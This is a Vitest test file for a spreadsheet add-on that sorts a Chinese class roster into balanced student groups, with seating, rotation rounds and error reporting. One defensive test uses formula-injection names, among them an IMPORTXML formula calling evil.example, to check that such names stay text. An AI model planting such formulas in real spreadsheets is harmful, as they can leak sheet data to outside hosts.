import { describe, expect, it } from 'vitest';
import { formGroupsRequest, open, ROSTER_ZH, formulasIn } from './helpers.ts';

/** Rows of the members table (小组 | 学号 | 姓名 | 角色 …) in a Groups sheet. */
const membersTable = (values: unknown[][]): unknown[][] => {
  const start = values.findIndex((r) => r[0] === '小组' && r[1] === '学号') + 1;
  const end = values.findIndex((r, i) => i >= start && r[0] === '' && r[1] === '');
  return values.slice(start, end < 0 ? undefined : end);
};

describe('Form groups through the menu', () => {
  it('lists no problems for a clean roster, then writes a 分组 sheet with every student once, roles, stats, balance and seats', async () => {
    const s = await open({ workbookOptions: { sheets: { 名单: ROSTER_ZH } } });
    s.menu('showFormGroups');
    expect(s.si.ui.dialog?.title).toBe('互助 · 分组');
    const p = s.call('formGroupsPreview');
    expect(p).toMatchObject({
      ok: true,
      sheetName: '名单',
      students: 24,
      hasErrors: false,
      subjects: ['语文', '数学', '英语'],
    });
    expect(p.problems).toEqual([]);

    const r = s.call('formGroupsRun', formGroupsRequest);
    expect(r).toMatchObject({ ok: true, sheetName: '分组', groups: 6, students: 24 });
    const sheet = s.si.workbook.sheet('分组');
    const values = sheet.values();
    const members = membersTable(values);
    expect(members).toHaveLength(24);
    expect(new Set(members.map((m) => m[1]))).toEqual(new Set(ROSTER_ZH.slice(1).map((row) => String(row[0]))));
    // Ids stay the exact text of the roster (not numbers) and every group has a 组长.
    expect(members.every((m) => typeof m[1] === 'string')).toBe(true);
    const groups = new Set(members.map((m) => m[0]));
    expect(groups.size).toBe(6);
    for (const g of groups)
      expect(members.filter((m) => m[0] === g).some((m) => String(m[3]).includes('组长'))).toBe(true);
    // 学生1 must not share a group with 学生2 (不同组 column).
    const groupOf = (name: string) => members.find((m) => m[2] === name)?.[0];
    expect(groupOf('学生1')).not.toBe(groupOf('学生2'));
    const flat = values.map((r) => r.join('|')).join('\n');
    expect(flat).toContain('小组统计');
    expect(flat).toContain('按名次轮流分'); // the balance beside dealing students out by rank
    expect(flat).toContain('座位图');
    expect(sheet.borders).toHaveLength(6); // one box of seats per group
    expect(r.summary).toMatch(/^各组平均总分最多相差 \d+(\.\d)? 分（按名次轮流分是 \d+(\.\d)? 分）。$/);
  });

  it('keeps history: a second grouping goes to 分组 (2) and the first sheet is untouched', async () => {
    const s = await open({ workbookOptions: { sheets: { 名单: ROSTER_ZH } } });
    s.call('formGroupsRun', formGroupsRequest);
    const before = JSON.stringify(s.si.workbook.sheet('分组').values());
    s.si.openSheet('名单');
    const r = s.call('formGroupsRun', { ...formGroupsRequest, seed: 99 });
    expect(r).toMatchObject({ ok: true, sheetName: '分组 (2)' });
    expect(JSON.stringify(s.si.workbook.sheet('分组').values())).toBe(before);
    expect(s.si.workbook.sheetNames()).toEqual(['名单', '分组', '分组 (2)']);
  });

  it('"keep previous groups stable" moves nobody when the roster is unchanged', async () => {
    const s = await open({ workbookOptions: { sheets: { 名单: ROSTER_ZH } } });
    s.call('formGroupsRun', formGroupsRequest);
    s.si.openSheet('名单');
    expect(s.call('formGroupsPreview').hasPrevious).toBe(true);
    s.call('formGroupsRun', { ...formGroupsRequest, seed: 123, keepPrevious: true });
    const key = (v: unknown[][]) => new Map(membersTable(v).map((m) => [m[1], m[0]]));
    const a = key(s.si.workbook.sheet('分组').values());
    const b = key(s.si.workbook.sheet('分组 (2)').values());
    const same = [...a].filter(([id, g]) => b.get(id) === g).length;
    expect(same).toBe(24);
  });

  it('shows roster problems with row and column before anything, and writes no sheet when there are errors', async () => {
    const bad = ROSTER_ZH.map((r) => [...r]);
    bad[3]![1] = '';
    bad[5]![4] = '九十';
    const s = await open({ workbookOptions: { sheets: { 名单: bad } } });
    const p = s.call('formGroupsPreview');
    expect(p.hasErrors).toBe(true);
    const texts: string[] = p.problems.map((x: { text: string }) => x.text);
    expect(texts.some((t) => t.includes('第4行') && t.includes('B'))).toBe(true);
    expect(texts.some((t) => t.includes('第6行') && t.includes('E') && t.includes('九十'))).toBe(true);
    const r = s.call('formGroupsRun', formGroupsRequest);
    expect(r.ok).toBe(false);
    expect(r.message).toMatch(/问题需要先修正/);
    expect(r.details!.length).toBeGreaterThanOrEqual(2);
    expect(s.si.workbook.sheetNames()).toEqual(['名单']);
  });

  it('says what to do for an empty roster and for a spreadsheet without one', async () => {
    const empty = await open({ workbookOptions: { sheets: { 名单: [ROSTER_ZH[0]!] } } });
    const p = empty.call('formGroupsPreview');
    expect(p.hasErrors).toBe(true);
    expect(empty.call('formGroupsRun', formGroupsRequest).ok).toBe(false);
    const none = await open({ locale: 'en' });
    const q = none.call('formGroupsPreview');
    expect(q.problems[0]!.text).toMatch(/No roster found/);
    const r = none.call('formGroupsRun', formGroupsRequest);
    expect(r).toMatchObject({ ok: false });
    expect(r.message).toMatch(/No roster found/);
    expect(r.message).not.toMatch(/at .*\.js|Error:/);
  });

  it('reads the roster from the active sheet when it is a class list, else from 名单; English names in English', async () => {
    const other = ROSTER_ZH.slice(0, 9).map((_row, i) =>
      i === 0 ? ['Student ID', 'Name', 'Math'] : [`E${i}`, `Pupil ${i}`, 50 + i],
    );
    const s = await open({ locale: 'en', workbookOptions: { sheets: { Roster: ROSTER_ZH, 'Class 2': other } } });
    s.si.openSheet('Class 2');
    expect(s.call('formGroupsPreview')).toMatchObject({ sheetName: 'Class 2', students: 8 });
    expect(s.call('formGroupsRun', { by: 'groups', value: 2, mix: 'none' })).toMatchObject({
      ok: true,
      sheetName: 'Groups',
      groups: 2,
    });
    s.si.openSheet('Groups'); // one of Huzhu's own sheets: never read as a roster
    expect(s.call('formGroupsPreview')).toMatchObject({ sheetName: 'Roster', students: 24 });
  });

  it('refuses impossible rules and bad numbers with a sentence, and writes nothing', async () => {
    const s = await open({ workbookOptions: { sheets: { 名单: ROSTER_ZH } } });
    const a = s.call('formGroupsRun', { by: 'groups', value: 99, mix: 'none' });
    expect(a).toMatchObject({ ok: false, message: expect.stringMatching(/^还没有分组：组数必须是1到24之间的整数/) });
    const bad = ROSTER_ZH.map((r) => [...r]);
    for (let i = 1; i <= 7; i++)
      bad[i]![6] = ROSTER_ZH.slice(1, 8)
        .filter((_, j) => j !== i - 1)
        .map((x) => x[1])
        .join('、');
    s.si.workbook.setSheet('名单', bad); // seven students who must all be apart, in six groups
    s.si.openSheet('名单');
    const c = s.call('formGroupsRun', formGroupsRequest);
    expect(c.ok).toBe(false);
    expect([c.message, ...(c.details ?? [])].join('\n')).toMatch(/学生1|2024001/);
    const b = s.call('formGroupsRun', { by: 'size', value: 'four', mix: 'none' });
    expect(b).toMatchObject({ ok: false });
    expect(b.message).toMatch(/每组人数应为正整数/);
    expect(s.si.workbook.sheetNames()).toEqual(['名单']);
  });

  it('keeps formula-looking names as text in the Groups sheet', async () => {
    const evil = ['=IMPORTXML("http://evil.example","//a")', '+1', '-2', '@x'];
    const rows = ROSTER_ZH.map((r, i) =>
      i >= 1 && i <= 4 ? [r[0], evil[i - 1], ...r.slice(2, 6), ''] : r.slice(0, 6).concat(['']),
    );
    rows[0] = ROSTER_ZH[0]!;
    // The teacher typed them as text (Sheets would otherwise have made formulas of them already).
    const s = await open({
      workbookOptions: {
        sheets: { 名单: rows.map((r, i) => (i >= 1 && i <= 4 ? [r[0], `'${r[1]}`, ...r.slice(2)] : r)) },
      },
    });
    expect(s.call('formGroupsRun', formGroupsRequest).ok).toBe(true);
    const sheet = s.si.workbook.sheet('分组');
    expect(formulasIn(sheet)).toEqual([]);
    const names = membersTable(sheet.values()).map((m) => m[2]);
    for (const e of evil) expect(names).toContain(e);
  });

  it('deletes the new sheet and reports a sentence when writing fails half-way (no half-written sheet)', async () => {
    const rows = ROSTER_ZH.map((r) => [...r]);
    rows[1]![1] = '长'.repeat(60_000); // longer than Sheets allows in one cell: the write is refused
    const s = await open({ workbookOptions: { sheets: { 名单: rows } } });
    const r = s.call('formGroupsRun', formGroupsRequest);
    expect(r.ok).toBe(false);
    expect(r.message).toMatch(/操作没有完成/);
    expect(s.si.workbook.sheetNames()).toEqual(['名单']);
  });

  it('rotation: one sheet per round, every student once in each, new classmates each round, round 1 current', async () => {
    const s = await open({ workbookOptions: { sheets: { 名单: ROSTER_ZH } } });
    const r = s.call('formGroupsRun', { ...formGroupsRequest, rounds: 3 });
    const names = ['分组 第1轮', '分组 第2轮', '分组 第3轮'];
    expect(r).toMatchObject({ ok: true, sheetName: '分组 第1轮', sheets: names, groups: 6, students: 24 });
    expect(s.si.workbook.sheetNames()).toEqual(['名单', ...names]);
    const groupOf = names.map((n) => new Map(membersTable(s.si.workbook.sheet(n).values()).map((m) => [m[1], m[0]])));
    for (const g of groupOf) expect(g.size).toBe(24);
    // Pairs of classmates who share a group in round 1 and again in round 2: far fewer than all of them.
    const ids = [...groupOf[0]!.keys()];
    const pairs = (g: Map<unknown, unknown>) =>
      new Set(
        ids.flatMap((a) => ids.filter((b) => String(a) < String(b) && g.get(a) === g.get(b)).map((b) => `${a}-${b}`)),
      );
    const first = pairs(groupOf[0]!);
    const again = [...pairs(groupOf[1]!)].filter((p) => first.has(p));
    expect(again.length).toBeLessThan(first.size / 2);
    // Round 1 is open now: the roster is still read from 名单, never from a round's sheet.
    expect(s.call('formGroupsPreview')).toMatchObject({
      sheetName: '名单',
      hasErrors: false,
      currentGroups: '分组 第1轮',
      activeGroups: null,
    });
  });

  it('refuses a number of rounds that is not a whole number from 1 to 50, in a sentence, writing nothing', async () => {
    const s = await open({ workbookOptions: { sheets: { 名单: ROSTER_ZH } } });
    for (const rounds of [0, 51, 2.5]) {
      const r = s.call('formGroupsRun', { ...formGroupsRequest, rounds });
      expect(r).toMatchObject({ ok: false });
      expect(r.message).toMatch(/轮数应为 1 到 50 之间的整数/);
    }
    expect(s.si.workbook.sheetNames()).toEqual(['名单']);
  });

  it('"use this sheet as the current groups": the open round becomes what scoring reads', async () => {
    const s = await open({ workbookOptions: { sheets: { 名单: ROSTER_ZH } } });
    s.call('formGroupsRun', { ...formGroupsRequest, rounds: 2 });
    s.si.openSheet('分组 第2轮');
    expect(s.call('formGroupsPreview')).toMatchObject({ currentGroups: '分组 第1轮', activeGroups: '分组 第2轮' });
    expect(s.call('useActiveGroups')).toEqual({ ok: true, sheetName: '分组 第2轮' });
    expect(s.call('formGroupsPreview')).toMatchObject({ currentGroups: '分组 第2轮', activeGroups: null });
    const round2 = membersTable(s.si.workbook.sheet('分组 第2轮').values());
    const state = s.call('scoringState');
    expect(state.groupsSheet).toBe('分组 第2轮');
    for (const g of state.groups as { name: string; members: { id: string }[] }[])
      for (const m of g.members) expect(round2.find((row) => row[1] === m.id)?.[0]).toBe(g.name);
    // The roster is not a groups sheet: nothing changes and the teacher is told what to open.
    s.si.openSheet('名单');
    const r = s.call('useActiveGroups');
    expect(r).toMatchObject({ ok: false });
    expect(r.message).toMatch(/打开的表里没有分组/);
    expect(s.call('formGroupsPreview').currentGroups).toBe('分组 第2轮');
  });
});
